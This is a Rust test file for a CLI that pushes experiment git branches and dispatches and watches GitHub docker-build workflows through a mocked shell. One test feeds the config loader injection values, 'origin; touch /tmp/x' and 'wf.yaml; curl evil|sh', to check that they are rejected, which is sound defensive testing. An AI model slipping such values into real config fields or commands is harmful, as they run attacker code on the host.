//! Experiment branch push and docker build dispatch, scripted through
//! `SpyShell`.

#![allow(clippy::expect_used, clippy::unwrap_used)]

use std::time::Duration;

use relops_cli::application::{ConfigStore, Git};
use relops_cli::application::services::experiment::{
    DispatchOptions, DispatchOutcome, ExperimentOptions, WaitPolicy, run_experiment,
    try_push_new_branch, workflow_dispatch_docker_build,
};
use relops_cli::domain::{AutomationError, DOCKER_RUST_BUILD_WORKFLOW_NAME, DockerBuildRequest};
use relops_cli::infra::YamlConfigStore;
use relops_shell::SpyShell;

use crate::helpers::{NoopReporter, RecordingReporter, cmd, fail, ok, ok_with};

const FAST_WAIT: WaitPolicy = WaitPolicy {
    attempts: 3,
    interval: Duration::ZERO,
};

fn banana_request() -> DockerBuildRequest {
    DockerBuildRequest {
        branch: "banana_branch".to_string(),
        git_sha: "banana_sha".to_string(),
        features: "banana_feature1,banana_feature2".to_string(),
        profile: "banana_performance".to_string(),
    }
}

fn banana_dispatch() -> String {
    format!(
        "gh workflow run {DOCKER_RUST_BUILD_WORKFLOW_NAME} --ref banana_branch --field GIT_SHA=banana_sha --field FEATURES=banana_feature1,banana_feature2 --field PROFILE=banana_performance --field BUILD_ADDL_TESTING_IMAGES=true"
    )
}

fn banana_list() -> String {
    format!(
        "gh run list --workflow {DOCKER_RUST_BUILD_WORKFLOW_NAME} --branch banana_branch --commit banana_sha --limit 1 --json databaseId --jq .[0].databaseId"
    )
}

// ── try_push_new_branch ──────────────────────────────────────────────────────

#[tokio::test]
async fn test_try_push_new_branch_branch_does_not_exist() {
    let shell = SpyShell::expect(vec![
        cmd("git rev-parse --verify exp/banana", fail(1, "")),
        cmd("git checkout -b exp/banana", ok()),
        cmd("git push -f origin exp/banana", ok()),
        cmd("git checkout banana", ok()),
    ]);
    let git = Git::new(&shell, "origin");

    try_push_new_branch(&git, "banana", "exp/banana", &NoopReporter)
        .await
        .expect("pushed");
    shell.assert_all_consumed().expect("all consumed");
}

#[tokio::test]
async fn test_try_push_new_branch_branch_exists() {
    let shell = SpyShell::expect(vec![
        cmd("git rev-parse --verify exp/banana", ok()),
        cmd("git branch -D exp/banana", ok()),
        cmd("git checkout -b exp/banana", ok()),
        cmd("git push -f origin exp/banana", ok()),
        cmd("git checkout banana", ok()),
    ]);
    let git = Git::new(&shell, "origin");
    let reporter = RecordingReporter::default();

    try_push_new_branch(&git, "banana", "exp/banana", &reporter)
        .await
        .expect("pushed");
    shell.assert_all_consumed().expect("all consumed");
    assert!(
        reporter
            .events()
            .contains(&"warn: exp/banana already exists, recreating it".to_string())
    );
}

#[tokio::test]
async fn test_failed_push_still_returns_to_base() {
    let shell = SpyShell::expect(vec![
        cmd("git rev-parse --verify exp/banana", fail(1, "")),
        cmd("git checkout -b exp/banana", ok()),
        cmd("git push -f origin exp/banana", fail(128, "fatal: unable to access")),
        cmd("git checkout banana", ok()),
    ]);
    let git = Git::new(&shell, "origin");

    let err = try_push_new_branch(&git, "banana", "exp/banana", &NoopReporter)
        .await
        .unwrap_err();
    assert!(matches!(
        err.downcast_ref::<AutomationError>(),
        Some(AutomationError::CommandFailed { exit_code: 128, .. })
    ));
    shell.assert_all_consumed().expect("base checked out");
}

#[tokio::test]
async fn test_failed_branch_creation_stops_before_push() {
    let shell = SpyShell::expect(vec![
        cmd("git rev-parse --verify exp/banana", fail(1, "")),
        cmd("git checkout -b exp/banana", fail(1, "")),
    ]);
    let git = Git::new(&shell, "origin");

    assert!(
        try_push_new_branch(&git, "banana", "exp/banana", &NoopReporter)
            .await
            .is_err()
    );
    shell.assert_all_consumed().expect("nothing after the failure");
}

#[tokio::test]
async fn test_invalid_branch_issues_no_commands() {
    let shell = SpyShell::expect(Vec::new());
    let git = Git::new(&shell, "origin");

    let err = try_push_new_branch(&git, "banana", "exp/a b", &NoopReporter)
        .await
        .unwrap_err();
    assert!(matches!(
        err.downcast_ref::<AutomationError>(),
        Some(AutomationError::InvalidBranch(name)) if name == "exp/a b"
    ));
    assert_eq!(shell.invocations(), 0);
}

#[tokio::test]
async fn test_remote_from_config_file_is_used_for_push() {
    let dir = tempfile::tempdir().expect("tempdir");
    let path = dir.path().join("config.yaml");
    std::fs::write(&path, "git:\n  remote: upstream\n").unwrap();
    let config = YamlConfigStore::at(&path).load().expect("valid config");

    let shell = SpyShell::expect(vec![
        cmd("git rev-parse --verify exp/banana", fail(1, "")),
        cmd("git checkout -b exp/banana", ok()),
        cmd("git push -f upstream exp/banana", ok()),
        cmd("git checkout banana", ok()),
    ]);
    let git = Git::new(&shell, config.git.remote);

    try_push_new_branch(&git, "banana", "exp/banana", &NoopReporter)
        .await
        .expect("pushed");
    shell.assert_all_consumed().expect("all consumed");
}

#[test]
fn test_config_file_with_shell_metacharacters_never_loads() {
    let dir = tempfile::tempdir().expect("tempdir");
    let path = dir.path().join("config.yaml");
    std::fs::write(
        &path,
        "git:\n  remote: \"origin; touch /tmp/x\"\nworkflow:\n  docker_build: \"wf.yaml; curl evil|sh\"\n",
    )
    .unwrap();

    let err = YamlConfigStore::at(&path).load().unwrap_err();
    assert!(format!("{err:#}").contains("git.remote"), "{err:#}");
}

// ── workflow_dispatch_docker_build ───────────────────────────────────────────

#[tokio::test]
async fn test_workflow_dispatch_docker_build() {
    let shell = SpyShell::expect(vec![cmd(&banana_dispatch(), ok())]);

    let outcome = workflow_dispatch_docker_build(
        &shell,
        DOCKER_RUST_BUILD_WORKFLOW_NAME,
        &banana_request(),
        DispatchOptions::default(),
        &NoopReporter,
    )
    .await
    .expect("dispatched");

    assert_eq!(
        outcome,
        DispatchOutcome::Dispatched {
            command: banana_dispatch()
        }
    );
    shell.assert_all_consumed().expect("all consumed");
}

#[tokio::test]
async fn test_dry_run_dispatch_runs_nothing() {
    let shell = SpyShell::expect(Vec::new());
    let reporter = RecordingReporter::default();

    let outcome = workflow_dispatch_docker_build(
        &shell,
        DOCKER_RUST_BUILD_WORKFLOW_NAME,
        &banana_request(),
        DispatchOptions {
            dry_run: true,
            wait: Some(FAST_WAIT),
        },
        &reporter,
    )
    .await
    .expect("dry run");

    assert!(matches!(outcome, DispatchOutcome::DryRun { .. }));
    assert_eq!(reporter.events(), vec![format!("command: {}", banana_dispatch())]);
    assert_eq!(shell.invocations(), 0);
}

#[tokio::test]
async fn test_wait_polls_until_run_is_listed_then_watches() {
    let list = banana_list();
    let shell = SpyShell::expect(vec![
        cmd(&list, ok_with("\n")),
        cmd(&banana_dispatch(), ok()),
        cmd(&list, ok_with("\n")),
        cmd(&list, ok_with("null\n")),
        cmd(&list, ok_with("4242\n")),
        cmd("gh run watch 4242 --exit-status", ok()),
    ]);

    let outcome = workflow_dispatch_docker_build(
        &shell,
        DOCKER_RUST_BUILD_WORKFLOW_NAME,
        &banana_request(),
        DispatchOptions {
            dry_run: false,
            wait: Some(FAST_WAIT),
        },
        &NoopReporter,
    )
    .await
    .expect("completed");

    assert_eq!(
        outcome,
        DispatchOutcome::Completed {
            command: banana_dispatch(),
            run_id: "4242".to_string(),
        }
    );
    shell.assert_all_consumed().expect("all consumed");
}

#[tokio::test]
async fn test_wait_skips_run_listed_before_dispatch() {
    let list = banana_list();
    let shell = SpyShell::expect(vec![
        cmd(&list, ok_with("1111\n")),
        cmd(&banana_dispatch(), ok()),
        cmd(&list, ok_with("1111\n")),
        cmd(&list, ok_with("2222\n")),
        cmd("gh run watch 2222 --exit-status", ok()),
    ]);

    let outcome = workflow_dispatch_docker_build(
        &shell,
        DOCKER_RUST_BUILD_WORKFLOW_NAME,
        &banana_request(),
        DispatchOptions {
            dry_run: false,
            wait: Some(FAST_WAIT),
        },
        &NoopReporter,
    )
    .await
    .expect("completed");

    assert_eq!(
        outcome,
        DispatchOutcome::Completed {
            command: banana_dispatch(),
            run_id: "2222".to_string(),
        }
    );
    shell.assert_all_consumed().expect("earlier run never watched");
}

#[tokio::test]
async fn test_wait_gives_up_when_only_earlier_run_is_listed() {
    let list = banana_list();
    let shell = SpyShell::expect(vec![
        cmd(&list, ok_with("1111\n")),
        cmd(&banana_dispatch(), ok()),
        cmd(&list, ok_with("1111\n")),
        cmd(&list, ok_with("1111\n")),
        cmd(&list, ok_with("1111\n")),
    ]);

    let err = workflow_dispatch_docker_build(
        &shell,
        DOCKER_RUST_BUILD_WORKFLOW_NAME,
        &banana_request(),
        DispatchOptions {
            dry_run: false,
            wait: Some(FAST_WAIT),
        },
        &NoopReporter,
    )
    .await
    .unwrap_err();

    assert!(matches!(
        err.downcast_ref::<AutomationError>(),
        Some(AutomationError::MissingRun { .. })
    ));
    shell.assert_all_consumed().expect("all attempts used");
}

#[tokio::test]
async fn test_wait_gives_up_when_run_never_appears() {
    let list = banana_list();
    let shell = SpyShell::expect(vec![
        cmd(&list, ok()),
        cmd(&banana_dispatch(), ok()),
        cmd(&list, ok()),
        cmd(&list, fail(1, "HTTP 502")),
        cmd(&list, ok()),
    ]);

    let err = workflow_dispatch_docker_build(
        &shell,
        DOCKER_RUST_BUILD_WORKFLOW_NAME,
        &banana_request(),
        DispatchOptions {
            dry_run: false,
            wait: Some(FAST_WAIT),
        },
        &NoopReporter,
    )
    .await
    .unwrap_err();

    assert!(matches!(
        err.downcast_ref::<AutomationError>(),
        Some(AutomationError::MissingRun { .. })
    ));
    shell.assert_all_consumed().expect("all attempts used");
}

#[tokio::test]
async fn test_failed_run_fails_dispatch() {
    let list = banana_list();
    let shell = SpyShell::expect(vec![
        cmd(&list, ok()),
        cmd(&banana_dispatch(), ok()),
        cmd(&list, ok_with("7\n")),
        cmd("gh run watch 7 --exit-status", fail(1, "X build failed")),
    ]);

    let err = workflow_dispatch_docker_build(
        &shell,
        DOCKER_RUST_BUILD_WORKFLOW_NAME,
        &banana_request(),
        DispatchOptions {
            dry_run: false,
            wait: Some(FAST_WAIT),
        },
        &NoopReporter,
    )
    .await
    .unwrap_err();

    assert!(err.to_string().contains("gh run watch 7"), "{err}");
    shell.assert_all_consumed().expect("all consumed");
}

// ── run_experiment ───────────────────────────────────────────────────────────

#[tokio::test]
async fn test_run_experiment_derives_branch_and_sha_from_git() {
    let dispatch = format!(
        "gh workflow run {DOCKER_RUST_BUILD_WORKFLOW_NAME} --ref exp/banana --field GIT_SHA=0a1b2c --field FEATURES= --field PROFILE=release --field BUILD_ADDL_TESTING_IMAGES=true"
    );
    let shell = SpyShell::expect(vec![
        cmd("git rev-parse --abbrev-ref HEAD", ok_with("banana\n")),
        cmd("git rev-parse HEAD", ok_with("0a1b2c\n")),
        cmd("git rev-parse --verify exp/banana", fail(1, "")),
        cmd("git checkout -b exp/banana", ok()),
        cmd("git push -f origin exp/banana", ok()),
        cmd("git checkout banana", ok()),
        cmd(&dispatch, ok()),
    ]);
    let git = Git::new(&shell, "origin");

    let outcome = run_experiment(
        &git,
        DOCKER_RUST_BUILD_WORKFLOW_NAME,
        ExperimentOptions {
            profile: "release".to_string(),
            ..ExperimentOptions::default()
        },
        &NoopReporter,
    )
    .await
    .expect("experiment started");

    assert_eq!(outcome.branch, "exp/banana");
    assert_eq!(outcome.git_sha, "0a1b2c");
    assert_eq!(outcome.dispatch, DispatchOutcome::Dispatched { command: dispatch });
    shell.assert_all_consumed().expect("all consumed");
}

#[tokio::test]
async fn test_run_experiment_dry_run_only_queries_git() {
    let shell = SpyShell::expect(vec![cmd("git rev-parse HEAD", ok_with("cafe\n"))]);
    let git = Git::new(&shell, "origin");

    let outcome = run_experiment(
        &git,
        "custom.yaml",
        ExperimentOptions {
            name: Some("exp/perf-test".to_string()),
            base: Some("main".to_string()),
            features: "failpoints".to_string(),
            profile: "performance".to_string(),
            dispatch: DispatchOptions {
                dry_run: true,
                wait: None,
            },
            ..ExperimentOptions::default()
        },
        &NoopReporter,
    )
    .await
    .expect("dry run");

    assert_eq!(
        outcome.dispatch.command(),
        "gh workflow run custom.yaml --ref exp/perf-test --field GIT_SHA=cafe --field FEATURES=failpoints --field PROFILE=performance --field BUILD_ADDL_TESTING_IMAGES=true"
    );
    shell.assert_all_consumed().expect("all consumed");
}

#[tokio::test]
async fn test_run_experiment_rejects_detached_head() {
    let shell = SpyShell::expect(vec![cmd(
        "git rev-parse --abbrev-ref HEAD",
        ok_with("HEAD\n"),
    )]);
    let git = Git::new(&shell, "origin");

    let err = run_experiment(
        &git,
        DOCKER_RUST_BUILD_WORKFLOW_NAME,
        ExperimentOptions::default(),
        &NoopReporter,
    )
    .await
    .unwrap_err();

    assert!(err.to_string().contains("detached"), "{err}");
    shell.assert_all_consumed().expect("all consumed");
}
